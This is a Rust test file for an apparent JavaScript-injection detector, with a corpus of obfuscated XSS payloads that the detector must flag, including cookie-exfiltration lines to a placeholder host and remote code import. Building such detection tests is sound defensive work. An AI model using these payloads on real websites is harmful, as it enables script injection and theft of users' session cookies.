use super::*;

fn strength(text: &str, before: Before) -> Strength {
    read(text.as_bytes(), 0, before).strength
}

#[test]
fn programs_that_do_something_are_read() {
    for text in [
        "alert(1)",
        "alert`1`",
        "\\u0061lert(1)",
        "top['al'+'ert'](1)",
        "window[/al/.source+/ert/.source](1)",
        "[8].some(confirm)",
        "a=alert,a(1)",
        "onerror=alert;throw 1",
        "{onerror=eval}throw'=alert\\x281\\x29'",
        "location=name",
        "location.href='//x'",
        "[].filter.constructor('alert(1)')()",
        "[]['filter']['constructor']('alert(1)')()",
        "if(1){alert(1)}",
        "for(;;)alert(1)",
        "fetch('//x/'+document.cookie)",
        "new Function`al\\ert\\`1\\``",
        "(alert)(1)",
        "(0,eval)('x')",
        "import('//x')",
        "with(document)alert(cookie)",
        "document.write('x')",
        "new Image().src='//x/'+document.cookie",
        "alert(1",
        "/*x*/alert//\n(1)",
        "x={valueOf:alert};+x",
    ] {
        assert_eq!(strength(text, Before::Statement), Strength::Sink, "{text}");
    }
}

#[test]
fn programs_that_continue_a_closed_string_are_read() {
    for text in [
        "-alert(1)-'",
        ";alert(1)//",
        "+alert(1)+",
        "}]);alert(1);//",
        ",alert(1))",
        "||alert`1`||",
        "\nalert(1)",
        "?alert(1):0",
        " in alert(1)//",
    ] {
        assert_eq!(strength(text, Before::Operand), Strength::Sink, "{text}");
    }
}

#[test]
fn prose_and_plain_values_are_not() {
    for text in [
        "hello",
        "1",
        "Hello, world",
        "a-b_c",
        "x; y",
        "true",
        "please alert (the team) now",
        "don't alert(1)",
        "Mozilla/5.0 (X11; Linux x86_64)",
        "price (net)",
        "1/2",
        "",
    ] {
        assert_ne!(strength(text, Before::Statement), Strength::Sink, "{text}");
    }
}
